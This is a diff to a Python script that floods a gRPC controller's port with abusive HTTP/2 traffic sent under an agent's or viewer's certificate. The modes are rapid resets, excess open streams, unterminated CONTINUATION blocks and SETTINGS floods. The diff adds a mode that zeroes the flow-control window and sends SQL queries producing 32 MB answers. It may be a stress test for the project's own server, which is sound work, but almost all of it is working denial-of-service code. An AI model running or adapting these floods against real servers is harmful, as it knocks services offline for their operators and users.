@@ -1,11 +1,12 @@
 #!/usr/bin/env python3
-"""Floods a controller's TCP port with HTTP/2 frames that no gRPC client sends, by the certificate of an agent.
+"""Floods a controller's TCP port with HTTP/2 frames that no gRPC client sends, by the certificate of an agent or viewer.
 
 flood.py --to HOST:PORT --cert FILE --key FILE --ca FILE --kind KIND --connections N --seconds S
 KIND  reset         streams that are reset at once
       open          streams without an end, more than SETTINGS allow
       continuation  a header block without an end
       settings      SETTINGS, whose acknowledgements are never read
+      window        large answers to RunSql, for which no window is opened; by the certificate of a viewer
 Opens a connection again when it is closed. Prints one line: bytes that were sent, and connections that were closed.
 """
 import argparse
@@ -29,14 +30,39 @@ def literal(name, value):
     return bytes([0, len(name)]) + name + bytes([len(value)]) + value
 
 
-PATH = b"/railgauge.api.AgentLink/Attach"
-# :method POST and :scheme https are entries of the static table, :path and :authority by its names.
-BLOCK = (b"\x83\x87" + bytes([4, len(PATH)]) + PATH + bytes([1, 9]) + b"localhost" + literal(b"te", b"trailers")
-         + literal(b"content-type", b"application/grpc"))
+def block(path):
+    """The headers of a call. :method POST and :scheme https are entries of the static table, :path and :authority by its names."""
+    return (b"\x83\x87" + bytes([4, len(path)]) + path + bytes([1, 9]) + b"localhost" + literal(b"te", b"trailers")
+            + literal(b"content-type", b"application/grpc"))
+
+
+BLOCK = block(b"/railgauge.api.AgentLink/Attach")
+SQL = (b"WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT 100000) "
+       b"SELECT x, hex(zeroblob(150)) FROM c")  # 32 MB
+
+
+def varint(number):
+    some = b""
+    while number > 127:
+        some += bytes([number & 127 | 128])
+        number >>= 7
+    return some + bytes([number])
+
+
+def calls_without_a_window():
+    """A call a second, so that each has its answer before the next begins."""
+    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))  # INITIAL_WINDOW_SIZE
+    request = b"\x0a" + varint(len(SQL)) + SQL + b"\x10" + varint(100000)  # SqlRequest
+    message = b"\0" + struct.pack(">I", len(request)) + request
+    for stream in range(1, 1 << 31, 2):
+        yield frame(HEADERS, END_HEADERS, stream, block(b"/railgauge.api.Archive/RunSql")) + frame(DATA, 1, stream, message)
+        time.sleep(1)
 
 
 def pieces(kind):
     """The bytes of the attack, piece by piece, without an end."""
+    if kind == "window":
+        yield from calls_without_a_window()
     stream = 1
     if kind == "continuation":
         yield frame(HEADERS, 0, 1, BLOCK)
@@ -95,7 +121,7 @@ def main():
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     for name in ("to", "cert", "key", "ca"):
         parser.add_argument("--" + name, required=True)
-    parser.add_argument("--kind", required=True, choices=["reset", "open", "continuation", "settings"])
+    parser.add_argument("--kind", required=True, choices=["reset", "open", "continuation", "settings", "window"])
     parser.add_argument("--connections", type=int, default=4)
     parser.add_argument("--seconds", type=float, default=3)
     flood = Flood(parser.parse_args())
